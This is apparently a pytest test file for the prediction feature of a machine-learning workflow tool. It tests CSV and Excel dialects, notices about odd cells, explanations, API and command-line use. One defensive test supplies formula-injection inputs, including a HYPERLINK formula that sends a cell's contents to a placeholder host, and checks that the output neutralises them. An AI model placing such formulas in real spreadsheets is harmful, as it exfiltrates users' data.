"""New rows are predicted by a completed workflow as its model file does, in the dialect of their file."""

import csv
import io
import json

import anyio.from_thread
import joblib
import numpy as np
import openpyxl
import pandas as pd
import pytest
from anyio.to_thread import current_default_thread_limiter
from helpers import tables
from helpers.refusals import refuses
from helpers.tiers import seldom
from pydantic import TypeAdapter
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.testclient import TestClient

from api.app import create
from jobs.cli.app import main
from jobs.language import sentence
from jobs.language.formulas import safe_text
from jobs.pipelines.predictions import RowPredictions
from jobs.tabular.predict import predictor
from jobs.verbs import datasets, predictions
from jobs.verbs.documents import PredictionsOut
from store import actors, workflows
from store.actors import Actor, Role
from store.errors import ConflictError, ForbiddenError, NotFoundError, UnavailableError

ODD = (
    "müşteri no;yaş;şehir;kayıt tarihi;gelir;ülke;puan;posta kodu;abone mi;not\r\n"
    "1;30;Ağrı;03.04.2020;31.000,5;TR;5,5;06100;;a\r\n"
    '2;;Paris;2020-01-01;;TR;kötü;34000;Evet;"b;c"\r\n'
    '3;NA;NA;31.12.2024;28000,25;DE;-1;99999;Hayır;"d ""e"""\r\n'
    "4; 41 ;Muş;;40000;TR;4;04100;;\r\n"
)


def trained(content, target, algorithm, name="t.csv", **params):
    """A workflow that has really learned; returns its number and its model, as downloaded."""
    ended = tables.run(datasets.add(io.BytesIO(content), name), target, algorithm, **{"epochs": 3, **params})
    assert ended["evaluate"].status == "completed"
    return ended["train"].workflow_id, joblib.load(tables.file_of(ended["train"], "model"))


def table_of(made, **reading):
    return pd.read_csv(io.BytesIO(made.stream.read()), **reading)


def codes(notices):
    return {(notice.message.code, notice.column): notice.message.values for notice in notices}


@pytest.mark.parametrize("algorithm", seldom(["LR", "hist_gradient_boosting", "SVM", "mlp"], always=2))
def test_classes_of_a_file_are_those_of_the_model(home, algorithm):
    """Each row of the file that was learned from gets what the downloaded model says of it, beside its own cells."""
    number, model = trained(tables.turkish(), "abone mi", algorithm)
    made = predictions.predict_file(number, io.BytesIO(tables.turkish()), "müşteriler.csv")
    written = made.stream.read()
    assert made.name == "müşteriler-predictions.csv" and len(written) == made.size
    reading = {"sep": ";", "encoding": "cp1254", "dtype": str, "keep_default_na": False}
    before, after = (pd.read_csv(io.BytesIO(each), **reading) for each in (tables.turkish(), written))
    assert after[before.columns].equals(before) and b"\r\n" in written
    frame = pd.read_csv(io.BytesIO(tables.turkish()), sep=";", encoding="cp1254")
    assert after["prediction"].tolist() == model.predict(frame).tolist()
    assert ("probability" in after) == hasattr(model, "predict_proba")
    if "probability" in after:
        chances = [float(cell.replace(",", ".")) for cell in after["probability"]]
        assert np.allclose(chances, model.predict_proba(frame).max(axis=1), atol=1e-6)
        ranked = [float(cell.replace(",", ".")) for cell in after["chance of Evet"]]
        assert np.allclose(ranked, model.predict_proba(frame)[:, 0], atol=1e-6)


@pytest.mark.parametrize("algorithm", ["sgd_regressor", "hist_gradient_boosting_regressor"])
def test_numbers_of_a_file_are_those_of_the_model(home, algorithm):
    """A predicted number is to the last bit what the downloaded model says, and no probability stands beside it."""
    number, model = trained(tables.numbers(), "price", algorithm)
    made = predictions.predict_file(number, io.BytesIO(tables.numbers()), "homes.csv")
    after, frame = table_of(made), pd.read_csv(io.BytesIO(tables.numbers()))
    assert after["prediction"].tolist() == model.predict(frame).tolist()
    assert list(after) == [*frame, "prediction"]


def test_strange_cells_are_counted_and_told(home):
    """Gaps, unreadable numbers and dates and unseen values are counted by column; the row still gets the model's
    answer."""
    number, model = trained(tables.turkish(), "abone mi", "LR")
    made = predictions.predict_file(number, io.BytesIO(ODD.encode("cp1254")), "new.csv")
    told = codes(made.about.notices)
    assert told["predict_gaps", "yaş"]["count"] == 2 and told["predict_gaps", "şehir"]["count"] == 1
    assert told["predict_unreadable_numbers", "puan"] == {"column": "puan", "examples": ["kötü"], "count": 1}
    assert told["predict_unreadable_dates", "kayıt tarihi"]["examples"] == ["2020-01-01"]
    assert told["predict_unseen_values", "şehir"]["examples"] == ["Paris"]
    assert told["predict_columns_unknown", None]["columns"] == ["not"]
    rows = list(csv.reader(io.StringIO(made.stream.read().decode("cp1254"), newline=""), delimiter=";"))
    assert [row[-4] for row in rows] == ["not", "a", "b;c", 'd "e"', ""]
    frame = pd.read_csv(io.StringIO(ODD), sep=";")
    assert [row[-3] for row in rows[1:]] == model.predict(frame).tolist()
    assert made.about.preview[1][-3:] == rows[2][-3:] and made.about.rows == 4


def test_advice_fits_where_nothing_is_set(home):
    """Of a file to predict, no encoding and no sheet can be chosen, so no notice advises to."""
    number, _model = trained(tables.turkish(), "abone mi", "LR")
    made = predictions.predict_file(number, io.BytesIO(ODD.encode("cp1254")), "new.csv")
    texts = [sentence(notice.message) for notice in made.about.notices]
    assert any("save the file as UTF-8" in each for each in texts) and not any(
        "choose another" in each for each in texts
    )


def test_a_file_in_another_dialect_means_the_same(home):
    """The same rows with commas and decimal points, in UTF-8 with a mark, get the same predictions; it stays so
    written."""
    number, _model = trained(tables.turkish(), "abone mi", "LR")
    expected = table_of(
        predictions.predict_file(number, io.BytesIO(tables.turkish()), "a.csv"), sep=";", encoding="cp1254"
    )
    frame = pd.read_csv(
        io.BytesIO(tables.turkish()), sep=";", decimal=",", encoding="cp1254", dtype={"posta kodu": str}
    )
    frame["gelir"] = frame["gelir"].map("{:,.2f}".format, na_action="ignore")
    other = frame.rename(columns={"yaş": "YAŞ "}).to_csv(index=False).encode("utf-8-sig")
    made = predictions.predict_file(number, io.BytesIO(other), "b.csv")
    written = made.stream.read()
    assert written.startswith(b"\xef\xbb\xbf") and b"\r\n" not in written
    after = pd.read_csv(io.BytesIO(written))
    assert after["prediction"].tolist() == expected["prediction"].tolist()
    assert {"predict_other_marks", "predict_column_alike"} <= {code for code, _column in codes(made.about.notices)}


def test_rows_are_predicted_as_the_model_does(home):
    """Values of every kind, with gaps and unseen ones, get the model's answer and its chances by label."""
    number, model = trained(tables.turkish(), "abone mi", "LR")
    rows = [
        {
            "yaş": 30,
            "şehir": "Ağrı",
            "kayıt tarihi": "2020-04-03",
            "gelir": 31000.5,
            "puan": 5.5,
            "posta kodu": "06100",
        },
        {"yaş": None, "şehir": "Paris", "kayıt tarihi": "03.04.2020", "gelir": 1, "puan": "5,5", "posta kodu": None},
    ]
    made = predictions.predict_rows(number, rows)
    frame = pd.DataFrame(rows, dtype=object).assign(**{"kayıt tarihi": "03.04.2020"})
    assert made.predictions == model.predict(frame).tolist()
    chances = [dict(zip(model.classes_, each, strict=True)) for each in model.predict_proba(frame).tolist()]
    assert made.probabilities == chances and json.dumps(made.predictions)
    assert codes(made.notices)["predict_unseen_values", "şehir"]["examples"] == ["Paris"]


ROW = {"yaş": 70, "şehir": "Ağrı", "kayıt tarihi": "03.04.2020", "gelir": 45000, "puan": None, "posta kodu": "06100"}


@pytest.mark.parametrize("algorithm", ["LR", "SVM", "mlp", "hist_gradient_boosting"])
def test_reasons_of_a_class(home, algorithm):
    """The effects of a linear model add up to its score; those of others are each what one column alone changes."""
    number, model = trained(tables.turkish(), "abone mi", algorithm)
    made = predictions.predict_rows(number, [ROW], explain=True)
    (why,) = made.reasons
    usual = {each.column: each.usual for each in why.effects}
    given = {each.column: each.value for each in why.effects}
    frame = pd.DataFrame([given, usual], dtype="str")
    said = list(model.classes_).index(made.predictions[0])
    assert given["gelir"] == "45000" and given["puan"] is None and "," in usual["gelir"]
    effects = {each.column: each.effect for each in why.effects}
    if algorithm in ("LR", "SVM"):
        row, base = model.decision_function(frame) * (1 if said else -1)
        assert why.exact and why.of == "score" and why.base == pytest.approx(base, abs=1e-4)
        assert sum(effects.values()) == pytest.approx(row - base, abs=1e-4)
    else:
        other = pd.DataFrame([given, given | {"yaş": usual["yaş"]}], dtype="str")
        row, without = model.predict_proba(other)[:, said]
        assert (why.exact, why.of) == (False, "probability")
        assert effects["yaş"] == pytest.approx(row - without, abs=1e-6)
    sizes = [abs(each.effect) for each in why.effects]
    assert sizes == sorted(sizes, reverse=True) and predictions.predict_rows(number, [ROW]).reasons == []


def test_reasons_of_a_number(home):
    """What each column adds to a predicted number is in its own unit, and adds up."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor", epochs=20)
    made = predictions.predict_rows(number, [{"size": 150, "rooms": 6, "kind": "house"}], explain=True)
    (why,) = made.reasons
    assert why.exact and why.of == "number" and {each.column for each in why.effects} == {"size", "rooms", "kind"}
    total = why.base + sum(each.effect for each in why.effects)
    assert total == pytest.approx(made.predictions[0], rel=1e-5)
    with refuses(match="too many to explain"):
        predictions.predict_rows(number, [{"size": 1, "rooms": 1, "kind": "flat"}] * 101, explain=True)


def test_whole_labels_stay_numbers(home):
    """A class that is a whole number is predicted as one, and named as a text among the probabilities."""
    content = "x,y\n" + "".join(f"{i % 10},{int(i % 10 > 4)}\n" for i in range(200))
    number, _model = trained(content.encode(), "y", "LR", epochs=20)
    made = predictions.predict_rows(number, [{"x": 9}, {"x": 0}])
    assert made.predictions == [1, 0] and set(made.probabilities[0]) == {"0", "1"}


def test_what_cannot_be_predicted_is_refused(home):
    """Missing columns are named; no rows, too many, odd values and workflows without a model are refused in words."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor")
    with refuses(match="2 columns are missing that the model needs: rooms, kind"):
        predictions.predict_file(number, io.BytesIO(b"size,city\n1,x\n2,y\n"), "new.csv")
    with refuses(match="kind is missing"):
        predictions.predict_rows(number, [{"size": 1, "rooms": 2}])
    with refuses(match="at least one row"):
        predictions.predict_rows(number, [])
    with refuses(match="at most 10,000"):
        predictions.predict_rows(number, [{}] * 10_001)
    with refuses(match="Row 1: kind must be"):
        predictions.predict_rows(number, [{"size": 1, "rooms": 2, "kind": ["flat"]}])
    with refuses(match="no rows below"):
        predictions.predict_file(number, io.BytesIO(b"size,rooms,kind\n"), "new.csv")
    with refuses(NotFoundError):
        predictions.predict_rows(number + 99, [{}])
    pending = tables.workflow(datasets.sample(), "churned", "LR")["train"].workflow_id
    with refuses(ConflictError, match="once it is completed"):
        predictions.predict_rows(pending, [{}])


def test_viewers_may_predict_and_strangers_may_not(home):
    """Predicting changes nothing, so a viewer may; who has no role is refused."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor")
    row = {"size": 100, "rooms": 3, "kind": "flat"}
    with actors.acting(Actor("vera", Role.viewer, "page")):
        assert len(predictions.predict_rows(number, [row]).predictions) == 1
    with actors.acting(actors.NOBODY), pytest.raises(ForbiddenError):
        predictions.predict_rows(number, [row])


def test_a_column_called_prediction_stays(home):
    """A file that was predicted before keeps those columns; the new ones are numbered, and it is told."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor")
    made = predictions.predict_file(number, io.BytesIO(b"size,rooms,kind,prediction\n90,2,flat,7\n"), "x.csv")
    after = table_of(made)
    assert list(after)[3:] == ["prediction", "prediction_2"] and after["prediction"].tolist() == [7]


def test_a_process_that_takes_too_much_is_ended(home, monkeypatch):
    """A model that needs more memory or time than it may have costs its own process, and is told in a sentence."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor")
    row = {"size": 100, "rooms": 3, "kind": "flat"}
    predictor.SANDBOX.end()
    monkeypatch.setattr(predictor.SANDBOX, "memory", 1 << 20)
    with refuses(match="more than 1 MB of memory"):
        predictions.predict_file(number, io.BytesIO(b"size,rooms,kind\n" + b"90,2,flat\n" * 200_000), "x.csv")
    predictor.SANDBOX.end()
    monkeypatch.undo()
    assert len(predictions.predict_rows(number, [row]).predictions) == 1
    assert workflows.get(number).status == "completed"


def test_long_files_leave_a_place_to_rows(home, monkeypatch):
    """While others have files predicted, rows are answered; one more file is refused when it has waited for long."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor")
    files = predictor.FILES
    monkeypatch.setattr(files, "patience", 0.05)
    with files.taken(), files.taken():
        assert predictions.predict_rows(number, [{"size": 100, "rooms": 3, "kind": "flat"}]).predictions
        with refuses(UnavailableError, match="job=true"):
            predictions.predict_file(number, io.BytesIO(b"size,rooms,kind\n90,2,flat\n"), "x.csv")
    assert predictions.predict_file(number, io.BytesIO(b"size,rooms,kind\n90,2,flat\n"), "x.csv").about.rows == 1


def test_many_rows_pass_in_parts(home, monkeypatch):
    """A file of several batches is predicted as a whole, row by row in its order."""
    number, model = trained(tables.numbers(), "price", "sgd_regressor")
    many = b"size,rooms,kind\n" + b"".join(b"%d,%d,flat\n" % (50 + i % 90, i % 7) for i in range(150_000))
    made = predictions.predict_file(number, io.BytesIO(many), "many.csv")
    after = table_of(made)
    assert made.about.rows == len(after) == 150_000
    assert np.array_equal(after["prediction"], model.predict(pd.read_csv(io.BytesIO(many))))


def test_an_excel_file_has_numbers_and_dates(home):
    """As Excel, numbers are numbers, dates dates and codes with leading zeros texts; no cell is a formula."""
    number, model = trained(tables.turkish(), "abone mi", "LR")
    rows = tables.turkish(40, seed=9).replace("Ağrı".encode("cp1254"), b"=1+1")
    made = predictions.predict_file(number, io.BytesIO(rows), "yeni.csv", as_excel=True)
    assert made.name == "yeni-predictions.xlsx" and made.about.suffix == ".xlsx"
    frame = pd.read_csv(io.BytesIO(rows), sep=";", encoding="cp1254")
    sheet = pd.read_excel(io.BytesIO(made.read()), dtype={"posta kodu": str}, engine="openpyxl")
    assert sheet["prediction"].tolist() == model.predict(frame).tolist()
    assert np.allclose(sheet["probability"], model.predict_proba(frame).max(axis=1), atol=1e-6)
    expected = pd.read_csv(io.BytesIO(rows), sep=";", encoding="cp1254", decimal=",", dtype={"posta kodu": str})
    assert np.allclose(sheet["gelir"], expected["gelir"], equal_nan=True)
    assert sheet["kayıt tarihi"].tolist() == pd.to_datetime(expected["kayıt tarihi"], format="%d.%m.%Y").tolist()
    assert sheet["posta kodu"].tolist() == expected["posta kodu"].tolist() and "=1+1" in sheet["şehir"].tolist()


def test_one_bad_cell_leaves_numbers_numbers(home):
    """In a workbook, a column that the model learned as numbers holds numbers, also where one cell is none; the sheet
    keeps its name, and its columns are as wide as what they hold."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Yeni"
    for row in [["size", "rooms", "kind", "a long name of a column"], [90.5, 2, "flat", "x"], ["yok", 3, "flat", "y"]]:
        sheet.append(row)
    book.save(stream := io.BytesIO())
    made = predictions.predict_file(number, io.BytesIO(stream.getvalue()), "x.xlsx")
    written = openpyxl.load_workbook(io.BytesIO(made.read()))["Yeni"]
    assert [written["A2"].value, written["A3"].value] == [90.5, "yok"]
    assert written.column_dimensions["D"].width > 23 > written.column_dimensions["B"].width


def test_numbers_far_from_all_learned_are_told(home):
    """A value that no training row comes near, or below zero where none was, is questioned; a usual one is not."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor")
    row = {"size": 100, "rooms": 3, "kind": "flat"}
    told = predictions.predict_rows(number, [row | {"rooms": 99_999}, row | {"rooms": -1}]).notices
    assert codes(told)["predict_far_numbers", "rooms"] == {
        "column": "rooms",
        "count": 2,
        "value": 99_999.0,
        "low": 1,
        "high": 6,
    }
    assert not predictions.predict_rows(number, [row, row | {"rooms": 7}]).notices


def test_an_excel_file_holds_what_excel_can(home):
    """A number beyond all bounds is written as a text, and a cell that is too long is cut and counted."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor")
    long = "x" * 40_000
    rows = f"size,rooms,kind,more,note\n90,2,flat,1E999,{long}\n91,3,flat,2,\n".encode()
    made = predictions.predict_file(number, io.BytesIO(rows), "x.csv", as_excel=True)
    sheet = pd.read_excel(io.BytesIO(made.read()), engine="openpyxl", dtype={"more": str})
    assert sheet["more"].tolist() == ["1E999", "2"] and sheet["note"][0] == long[:32_767]
    assert codes(made.about.notices)["predict_cells_cut", None] == {"count": 1, "most": 32_767}
    whole = predictions.predict_file(number, io.BytesIO(rows), "x.csv")
    assert table_of(whole)["note"][0] == long and "predict_cells_cut" not in str(whole.about.notices)


@pytest.mark.parametrize("form", ["%Y-%m-%d", "%d/%m/%Y", "%Y.%m.%d"])
def test_dates_may_be_written_differently(home, form):
    """A file whose dates are written in another way than those that were learned from means the same."""
    number, _model = trained(tables.turkish(), "abone mi", "LR")
    reading = {"sep": ";", "encoding": "cp1254", "dtype": str, "keep_default_na": False}
    rows = pd.read_csv(io.BytesIO(tables.turkish()), **reading)
    usual = predictions.predict_file(number, io.BytesIO(tables.turkish()), "a.csv").read()
    rows["kayıt tarihi"] = pd.to_datetime(rows["kayıt tarihi"], format="%d.%m.%Y").dt.strftime(form)
    made = predictions.predict_file(number, io.BytesIO(rows.to_csv(sep=";", index=False).encode("cp1254")), "b.csv")
    expected, after = (pd.read_csv(io.BytesIO(each), **reading) for each in (usual, made.read()))
    assert after["prediction"].tolist() == expected["prediction"].tolist()
    assert after["kayıt tarihi"].tolist() == rows["kayıt tarihi"].tolist()
    assert "predict_other_dates" in {code for code, _column in codes(made.about.notices)}
    assert "predict_unreadable_dates" not in {code for code, _column in codes(made.about.notices)}


def test_an_excel_file_means_the_same(home):
    """Rows in a workbook get what they get as CSV, and come back as a workbook."""
    number, _model = trained(tables.turkish(), "abone mi", "LR")
    workbook = predictions.predict_file(number, io.BytesIO(tables.turkish()), "a.csv", as_excel=True).read()
    made = predictions.predict_file(number, io.BytesIO(workbook), "a.xlsx")
    sheet = pd.read_excel(io.BytesIO(made.read()), engine="openpyxl")
    assert made.name == "a-predictions.xlsx"
    assert sheet["prediction_2"].tolist() == sheet["prediction"].tolist()
    assert np.allclose(sheet["probability_2"], sheet["probability"], atol=1e-5)
    told = {code for code, _column in codes(made.about.notices)}
    assert not told & {"predict_unreadable_dates", "predict_unreadable_numbers", "predict_other_marks"}


@pytest.fixture
def client(home):
    served = Starlette(routes=[Mount("/api", create())])
    return TestClient(served, base_url="http://localhost", raise_server_exceptions=False)


def test_programs_predict_rows_and_files(client):
    """The API answers rows with a document of its type and a file with the same file; both say what was strange."""
    number, model = trained(tables.turkish(), "abone mi", "LR")
    path = f"/api/workflows/{number}/predict"
    row = {"yaş": 30, "şehir": "Paris", "kayıt tarihi": None, "gelir": 1, "puan": 5.5, "posta kodu": "06100"}
    answer = client.post(path, json={"rows": [row], "explain": True})
    document = TypeAdapter(PredictionsOut).validate_python(answer.json(), strict=True)
    assert answer.status_code == 200 and document["predictions"][0] in model.classes_
    assert sum(document["probabilities"][0].values()) == pytest.approx(1)
    assert document["reasons"][0]["exact"] and len(document["reasons"][0]["effects"]) == 6
    assert any("not seen in training (Paris)" in notice["text"] for notice in document["notices"])
    sent = client.post(path, params={"name": "yeni müşteriler.csv"}, content=ODD.encode("cp1254"))
    assert sent.status_code == 200 and sent.headers["content-type"] == "text/csv; charset=cp1254"
    assert "yeni%20m%C3%BC%C5%9Fteriler-predictions.csv" in sent.headers["content-disposition"]
    assert sent.headers["x-total-count"] == "4" and "predict_gaps" in sent.headers["x-notices"]
    assert (
        sent.content.decode("cp1254").splitlines()[0] == f"{ODD.splitlines()[0]};prediction;probability;chance of Evet"
    )


def test_rows_take_no_thread_from_other_requests(client, monkeypatch):
    """A prediction that waits for its place holds none of the threads that answer everything else."""
    shared = []

    def predict(*_given, **_more):
        shared.append(anyio.from_thread.run_sync(lambda: current_default_thread_limiter().borrowed_tokens))
        return RowPredictions([], [])

    monkeypatch.setattr(predictions, "predict_rows", predict)
    assert client.post("/api/workflows/1/predict", json={"rows": [{}]}).status_code == 200
    assert shared == [0]


@pytest.mark.parametrize("stream", [False, True])
def test_a_large_file_is_predicted_as_a_workflow(client, monkeypatch, stream):
    """Above a size, whether announced or not, a request is told to ask for a job, and may."""
    number, _model = trained(tables.numbers(), "price", "sgd_regressor")
    rows = b"size,rooms,kind\n" + b"90,2,flat\n" * 30
    monkeypatch.setattr("api.routes.predictions.MOST_DIRECT", 100)

    def sent(**more):
        content = iter([rows[:50], rows[50:]]) if stream else rows
        return client.post(f"/api/workflows/{number}/predict", params={"name": "x.csv", **more}, content=content)

    assert (sent().status_code, sent().json()["code"]) == (413, "predict_file_too_big")
    assert sent(job="true").status_code == 202


NO_JSON = "body_not_json"


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        ({"json": {"rows": []}}, 422, "predict_rows_not_given"),
        ({"json": {}}, 422, "field_missing"),
        ({"json": {"rows": [1]}}, 422, "field_not_object"),
        ({"json": {"rows": [{"size": 1}]}}, 422, "predict_columns_missing"),
        ({"content": b"{", "headers": {"Content-Type": "application/json"}}, 400, None),
        ({"content": b'{"rows":' + b"[" * 100_000, "headers": {"Content-Type": "application/json"}}, 400, NO_JSON),
        ({"content": b'{"rows":' + b"9" * 5_000 + b"}", "headers": {"Content-Type": "application/json"}}, 400, NO_JSON),
        ({"content": b'{"rows":"\xff"}', "headers": {"Content-Type": "application/json"}}, 400, NO_JSON),
        ({"content": b"a,b\n1,2\n"}, 422, "upload_unnamed"),
        ({"content": b"a,b\n1,2\n", "params": {"name": "x.csv"}}, 422, "predict_columns_missing"),
        ({"json": {"rows": [{"size": "x" * (1 << 20)}]}}, 413, "body_too_long"),
    ],
)
def test_requests_that_cannot_be_predicted(client, body, status, code):
    """A wrong request is refused as any other is, with a sentence and a code."""
    number, _model = trained(tables.numbers(60), "price", "sgd_regressor")
    answer = client.post(f"/api/workflows/{number}/predict", **body)
    document = answer.json()
    assert document["detail"].endswith(".") and (answer.status_code, document["code"]) == (
        status,
        code or document["code"],
    )


def test_the_command_writes_the_file(home, tmp_path, capsysbinary, monkeypatch):
    """The command writes to standard output or to a file, reads a pipe, and says on the side what was strange."""
    number, model = trained(tables.turkish(), "abone mi", "LR")
    path, out = tmp_path / "new.csv", tmp_path / "out.csv"
    path.write_bytes(ODD.encode("cp1254"))
    assert main(["predict", str(number), str(path)]) == 0
    printed = capsysbinary.readouterr()
    assert printed.out.decode("cp1254").startswith(ODD.splitlines()[0]) and b"not seen in training" in printed.err
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(ODD.encode("cp1254"))))
    assert main(["predict", str(number), "-"]) == 0 and capsysbinary.readouterr().out == printed.out
    assert main(["predict", str(number), str(path), "-o", str(out), "--json"]) == 0
    document = json.loads(capsysbinary.readouterr().out)
    assert out.read_bytes() == printed.out and document["rows"] == 4 and document["notices"]
    after = pd.read_csv(out, sep=";", encoding="cp1254")
    assert after["prediction"].tolist() == model.predict(pd.read_csv(path, sep=";", encoding="cp1254")).tolist()
    assert main(["predict", "999", str(path)]) == 1 and b"no workflow 999" in capsysbinary.readouterr().err


def test_predictions_run_no_formula(home):
    """What no spreadsheet has run yet cannot begin a formula: labels, and rows that were no CSV. Numbers stay numbers,
    and CSV comes back as it was."""
    formula, label = '=HYPERLINK("http://x/?"&A1,"x")', "=1+1"
    given = tables.turkish().decode("cp1254").replace("Hayır", label)
    number, model = trained(given.encode("cp1254"), "abone mi", "LR")
    assert label in model.classes_
    row = {"yaş": -5, "şehir": formula, "kayıt tarihi": "01.02.2024", "gelir": "-1,5", "puan": "1", "posta kodu": "-"}
    lines = "\n".join(json.dumps({**row, "-x": "@5", "yaş": age}) for age in range(-5, 80, 5)).encode()
    made = predictions.predict_file(number, io.BytesIO(lines), "a.jsonl")
    written = list(csv.DictReader(io.StringIO(made.read().decode("utf-8-sig"))))
    assert {each["şehir"] for each in written} == {f"'{formula}"} and {each["'-x"] for each in written} == {"'@5"}
    assert {each["prediction"] for each in written} == {f"'{label}"}
    assert (written[0]["yaş"], written[0]["gelir"], written[0]["posta kodu"]) == ("-5", "-1,5", "-")
    assert codes(made.about.notices)["predict_cells_quoted", None] == {"count": 3 * len(written)}
    again = (
        tables.turkish().decode("cp1254").replace("Ağrı", formula.replace('"', "").replace(",", "")).encode("cp1254")
    )
    back = predictions.predict_file(number, io.BytesIO(again), "b.csv").read().decode("cp1254")
    assert ";=HYPERLINK(http://x/?&A1x);" in back and f";'{label};" in back


def test_written_as_it_was_a_sign_is_no_formula():
    """Signs that stand for a class or for missing, and numbers however written, are no formulas."""
    for text in ("+", "-", "-5", "+5,25", "+90 555 1234567", "-1.234,5", "1e-5", "-1E+5", "a=1"):
        assert safe_text(text) == text
    for text in ("=1", "-1+1", "+a", "@x", "-1,5-cmd", "\t=1"):
        assert safe_text(text) == f"'{text}"
